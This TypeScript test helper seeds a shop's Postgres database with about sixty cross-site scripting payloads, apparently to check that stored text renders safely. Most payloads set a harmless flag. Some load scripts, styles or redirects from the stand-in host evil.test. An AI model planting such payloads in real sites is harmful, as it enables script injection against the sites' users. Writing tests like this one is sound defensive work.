/** Each would set `__ran` or add an element. */
import type { Sql } from 'postgres';

/** Short, so that they fit where a name fits. */
export const hostileTexts: readonly string[] = [
  '<script>__ran=1</script>',
  '<script src=//evil.test/x.js></script>',
  '</script><script>__ran=1</script>',
  '</title><script>__ran=1</script>',
  '</textarea><script>__ran=1</script>',
  '</style><script>__ran=1</script>',
  '--><script>__ran=1</script>',
  ']]><script>__ran=1</script>',
  '<ScRiPt>__ran=1</sCrIpT>',
  '<script\n>__ran=1</script\n>',
  '<<script>__ran=1//<</script>',
  '<img src=x onerror=__ran=1>',
  '<img src=x onerror="__ran=1">',
  '"><img src=x onerror=__ran=1>',
  "'><img src=x onerror=__ran=1>",
  '`><img src=x onerror=__ran=1>',
  '<img/src=x/onerror=__ran=1>',
  '<IMG SRC=x ONERROR=__ran=1>',
  '<img src=x:x onerror\n=__ran=1>',
  '<img src="x` `<script>__ran=1</script>"` `>',
  '" onmouseover="__ran=1" x="',
  "' onfocus='__ran=1' autofocus x='",
  '" autofocus onfocus=__ran=1 "',
  '<svg onload=__ran=1>',
  '<svg/onload=__ran=1>',
  '<svg><script>__ran=1</script></svg>',
  '<svg><animate onbegin=__ran=1 attributeName=x>',
  '<svg><a href="javascript:__ran=1">x</a></svg>',
  '<math><mi xlink:href="javascript:__ran=1">x',
  '<body onload=__ran=1>',
  '<iframe src="javascript:__ran=1">',
  '<iframe srcdoc="<script>__ran=1</script>">',
  '<object data="javascript:__ran=1">',
  '<embed src="javascript:__ran=1">',
  '<link rel=stylesheet href=//evil.test/x>',
  '<meta http-equiv=refresh content="0;//evil.test">',
  '<base href=//evil.test/>',
  '<form action=//evil.test><input name=a>',
  '<button formaction="javascript:__ran=1">x',
  '<input autofocus onfocus=__ran=1>',
  '<select autofocus onfocus=__ran=1>',
  '<details open ontoggle=__ran=1>x',
  '<video><source onerror=__ran=1></video>',
  '<audio src=x onerror=__ran=1>',
  '<marquee onstart=__ran=1>x</marquee>',
  '<a href="javascript:__ran=1">x</a>',
  '[x](javascript:__ran=1)',
  '![x](javascript:__ran=1)',
  '[x](data:text/html,<script>__ran=1</script>)',
  '<javascript:__ran=1>',
  '![x](x" onerror="__ran=1)',
  '<style>*{background:url(//evil.test)}</style>',
  '<div style="background:url(//evil.test)">x',
  '<template><script>__ran=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__ran=1>">',
  '{{constructor.constructor("__ran=1")()}}',
  '${__ran=1}',
  'javascript:__ran=1',
  '&lt;script&gt;__ran=1&lt;/script&gt;',
  '\u003cimg src=x onerror=__ran=1\u003e',
];

/** A column of text, of any kind that the catalogue knows, and what became of it. */
export interface FilledColumn {
  readonly name: string;
  /** As the catalogue names its type. */
  readonly kind: string;
  /** In how many rows a text stands now. */
  readonly rows: number;
  /** A client's role may write it without any function between. */
  readonly isGranted: boolean;
  /** Checked by the database itself, which may well refuse all sixty. */
  readonly isChecked: boolean;
  readonly isEmpty: boolean;
}

/** Eighty caps and more come from layouts of people: a text on each, and in what a file says of itself. */
const hostileLayout = [
  { name: hostileTexts.join(' '), author: hostileTexts[0], notes: hostileTexts.join('\n') },
  ...Array.from({ length: 6 }, (_, row) => hostileTexts.slice(row * 10, row * 10 + 10)),
];

/** What fits into fields of their usual sizes. */
const rooms = [1_000_000, 1900, 500, 280, 110, 70, 38, 20, 10] as const;

/**
 * Writes over every text that no rule or key of the shop forbids: all sixty where they fit, else as
 * many as do, others in each row; or one word as long as the field takes. Inside of JSON the words of
 * people are written over, found by name.
 */
export async function fillShop(
  sql: Sql,
  pack: 'hostile' | 'unbroken' = 'hostile',
): Promise<readonly FilledColumn[]> {
  return sql.begin(async (quiet) => {
    await quiet`set local session_replication_role = replica`;
    if (pack === 'unbroken')
      await quiet`
        create temporary table pack on commit drop as
        select room, row, left(repeat('Unbreakable' || chr(65 + row % 26), 40), room) as text
        from unnest(${[...rooms]}::int[]) room, generate_series(0, 59) row`;
    else
      await quiet`
      create temporary table pack on commit drop as
      select room, first as row, (
        select string_agg(t.text, E'\n\n' order by t.turn) from (
          select x.text, x.turn, sum(length(x.text) + 2) over (order by x.turn) as used
          from (select text, (n + 59 - first) % 60 as turn from unnest(${[...hostileTexts]}::text[])
            with ordinality u (text, n) where length(text) <= room) x
        ) t where t.used <= room + 2) as text
      from unnest(${[...rooms]}::int[]) room, generate_series(0, 59) first`;
    await quiet.unsafe(fillColumn);
    const columns = await quiet<FilledColumn[]>`
      select c.name, c.kind, c.granted as "isGranted", c.checked as "isChecked",
        pg_temp.is_empty(c.oid) as "isEmpty", pg_temp.fill(c.oid, c.attname, c.kind) as rows
      from (
        select t.oid, a.attname, t.relnamespace::regnamespace || '.' || t.relname || '.' || a.attname as name,
          a.atttypid::regtype::text as kind,
          t.relnamespace = 'public'::regnamespace and (
            has_column_privilege('authenticated', t.oid, a.attnum, 'insert, update')
            or has_column_privilege('anon', t.oid, a.attnum, 'insert, update')) as granted,
          exists (select from pg_constraint k where k.conrelid = t.oid and k.contype = 'c'
            and a.attnum = any (k.conkey)) as checked
        from pg_class t join pg_attribute a on a.attrelid = t.oid
        where t.relkind = 'r' and a.attnum > 0 and not a.attisdropped and a.attgenerated = ''
          and a.atttypid::regtype::text in (
            'text', 'text[]', 'jsonb', 'json', 'character varying', 'character varying[]')
          and t.relnamespace in ('public'::regnamespace, 'private'::regnamespace)
          -- What the shop alone compares is nobody's text.
          and a.attname !~ '(hash|token|secret|dedupe_key|request_hash)'
          and t.relname not in ('staff', 'order_keys', 'call_keys', 'retention', 'order_moves', 'batch_moves')
          -- A copy of the product's address and number, which have rules of their own.
          and not (t.relname = 'order_lines' and a.attname in ('url', 'sku'))
          and not exists (
            select from pg_constraint k where k.contype in ('p', 'f') and (
              (k.conrelid = t.oid and a.attnum = any (k.conkey))
              or (k.confrelid = t.oid and a.attnum = any (k.confkey))))
        order by t.oid, a.attnum
      ) c`;
    const layout = JSON.stringify(hostileLayout);
    await quiet`
      update public.designs set layout = 'own', design = jsonb_set(jsonb_set(design, '{layout}', ${layout}::text::jsonb), '{keys}', '{}')
      where design ? 'layout'`;
    await quiet`
      update public.order_lines set design = jsonb_set(jsonb_set(design, '{design,layout}', ${layout}::text::jsonb), '{design,keys}', '{}')
      where design -> 'design' ? 'layout'`;
    return columns;
  });
}

const words =
  'title|name|label|text|note|option|value|words|line1|line2|city|region|postcode|phone|variant_title|credit|reason|carrier';

const fillColumn = `
create function pg_temp.is_empty(p_table oid) returns boolean language plpgsql as $empty$
declare v_is boolean;
begin
  execute format('select not exists (select from %s)', p_table::regclass) into v_is;
  return v_is;
end;
$empty$;
create function pg_temp.fill(p_table oid, p_column name, p_kind text) returns int
language plpgsql as $fill$
declare
  v_word constant text := '"(${words})": *"[^"]*"';
  v_is_json constant boolean := p_kind like 'json%';
  v_new constant text := case when v_is_json
    then format('regexp_replace(t.%I::text, %L, ''"\\1": '' || replace(to_jsonb(p.text)::text, ''\\'', ''\\\\''), ''g'')::jsonb', p_column, v_word)
    when p_kind like '%[]' then 'array[p.text]'
    else 'p.text' end;
  v_room int;
  v_most int;
  v_filled int;
begin
  -- Every row at once; where one of them refuses it, one alone.
  foreach v_most in array array[200, 1] loop
    foreach v_room in array array(select distinct room from pack order by 1 desc) loop
      begin
        execute format(
          'update %1$s t set %2$I = %3$s from (select ctid as at, row_number() over () as n from %1$s limit %4$s) r
            join pack p on p.room = %5$s and p.row = r.n %% 60 where t.ctid = r.at and %6$s',
          p_table::regclass, p_column, v_new, v_most, v_room,
          case when v_is_json then format('t.%I::text ~ %L', p_column, v_word) else 'true' end);
        get diagnostics v_filled = row_count;
        return v_filled;
      -- A rule of the shop forbids it: nobody can store it either.
      exception when others then
        null;
      end;
    end loop;
  end loop;
  return 0;
end;
$fill$`;
